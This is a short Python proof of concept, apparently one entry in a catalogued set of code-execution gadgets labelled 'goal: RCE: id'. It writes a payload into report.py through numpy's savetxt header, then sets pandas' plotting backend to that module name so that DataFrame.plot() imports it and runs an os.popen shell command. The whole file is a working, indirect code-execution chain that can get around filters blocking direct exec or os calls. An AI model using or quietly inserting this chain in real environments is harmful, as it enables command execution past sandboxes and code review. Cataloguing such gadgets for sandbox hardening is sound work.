# source: pandas PR #26753/#28622 (plotting.backend option and plot(backend=) -> importlib.import_module), https://github.com/pandas-dev/pandas/issues/28619; sys.path[0]='' module shadowing (docs.python.org security_warnings: -P/PYTHONSAFEPATH) + pandas import_optional_dependency
# family: string->import: pandas plotting backend name imported with importlib via pd.options attribute + np.savetxt header writer
# goal: RCE: id
import numpy as np
import pandas as pd
payload = "import os;print(os.popen('id').read());plot=0"
np.savetxt("report.py", [], header=payload, comments="")
pd.options.plotting.backend = "report"
pd.DataFrame({"a": [1.0]}).plot()
